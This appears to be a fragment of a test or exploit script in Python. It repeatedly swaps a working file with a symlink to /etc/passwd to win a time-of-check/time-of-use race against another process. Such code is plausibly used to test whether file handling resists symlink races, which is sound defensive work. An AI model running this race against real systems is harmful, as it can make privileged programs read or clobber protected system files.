os.chdir("/work")
open("new", "w").write("mine"); os.rename("new", "race"); os.symlink("/etc/passwd", "bad")
stop = time.time() + 1.5
while time.time() < stop:
    os.rename("race", "t"); os.rename("bad", "race"); os.rename("race", "bad"); os.rename("t", "race")
end()
